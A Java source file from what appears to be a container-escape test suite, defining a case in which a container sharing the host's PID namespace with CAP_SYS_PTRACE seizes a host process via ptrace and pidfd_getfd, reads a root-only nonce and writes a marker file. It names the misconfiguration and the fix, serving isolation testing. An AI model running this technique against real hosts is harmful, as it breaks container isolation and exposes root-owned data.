package nutshell.escapes;

import java.util.List;
import nutshell.namespaces.Namespace;

/** Takes hold of a process of the host's as a debugger does, and takes a descriptor out of it; see ptrace(2), pidfd_getfd(2). */
record PtraceHostProcess() implements Escape {

    @Override
    public String word() {
        return "ptrace-host-process";
    }

    @Override
    public String mistake() {
        return "the PID namespace is the host's, and CAP_SYS_PTRACE was left";
    }

    @Override
    public Defence fix() {
        return Defence.OWN_NAMESPACES;
    }

    private static final int PTRACE_SEIZE = 0x4206;

    @Override
    public void make(Blueprint blueprint, Stake stake) {
        blueprint.share(Namespace.PID);
    }

    @Override
    public void prepare(Stake stake) {
        stake.process();
    }

    @Override
    public List<Attack> ways(Scene scene) {
        int pid = scene.stake().process().pid();
        return List.of(attacker -> {
            attacker.note("as a debugger does")
                    .call("ptrace", List.of("PTRACE_SEIZE", Integer.toString(pid), "0", "0"), PTRACE_SEIZE, pid, 0, 0);
            int process = attacker.opening("pidfd_open", List.of(Integer.toString(pid), "0"), pid, 0);
            int directory = attacker.note("a directory that the process has open, now ours as well")
                    .opening(
                            "pidfd_getfd",
                            List.of(Integer.toString(process), Integer.toString(HostProcess.OPEN), "0"),
                            process,
                            HostProcess.OPEN,
                            0);
            int nonce = attacker.note("only the host's root reads it").openBelow(directory, "nonce");
            attacker.tell(nonce).close(nonce);
            attacker.note("a file that only the host's root could leave").createBelow(directory, "was-here");
        });
    }
}
